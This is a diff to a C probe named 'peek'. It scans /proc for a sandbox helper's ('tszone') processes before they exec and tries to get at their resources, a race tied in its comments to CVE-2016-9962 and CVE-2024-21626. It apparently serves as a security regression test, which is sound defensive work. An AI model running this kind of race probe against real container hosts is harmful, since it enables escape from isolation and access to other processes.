@@ -1,5 +1,5 @@
-/* peek SECONDS: waits for a process of tszone's to come into sight before it has become the command, and tries to get at what it has.
- * CVE-2016-9962 and CVE-2024-21626 were this. Prints a line "got WHAT" for each success. */
+/* peek: waits for processes of tszone's to come into sight before they have become the command, and tries to get at what they have, until there is
+ * /tmp/enough. CVE-2016-9962 and CVE-2024-21626 were this. Prints "ready", "saw" at the first, and a line "got WHAT" for each success. */
 #include <dirent.h>
 #include <fcntl.h>
 #include <stdio.h>
@@ -9,7 +9,6 @@
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
-#include <time.h>
 #include <unistd.h>
 
 static int is_helper(int pid) {
@@ -84,21 +83,23 @@ static void try_one(int pid) {
   waitpid(child, NULL, 0);
 }
 
-int main(int argc, char **argv) {
-  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
-  long seen = 0;
-  puts("ready");
+static void say(const char *text) {
+  puts(text);
   fflush(stdout);
-  while (time(NULL) < end) {
+}
+
+int main(void) {
+  long seen = 0;
+  say("ready");
+  while (access("/tmp/enough", F_OK) != 0) {
     DIR *proc = opendir("/proc");
     for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
       int pid = atoi(entry->d_name);
       if (pid <= 1 || pid == getpid() || !is_helper(pid)) continue;
-      seen++;
+      if (seen++ == 0) say("saw");
       try_one(pid);
     }
     if (proc != NULL) closedir(proc);
-    if (access("/tmp/enough", F_OK) == 0) break;
   }
   printf("seen %ld\n", seen);
   return 0;
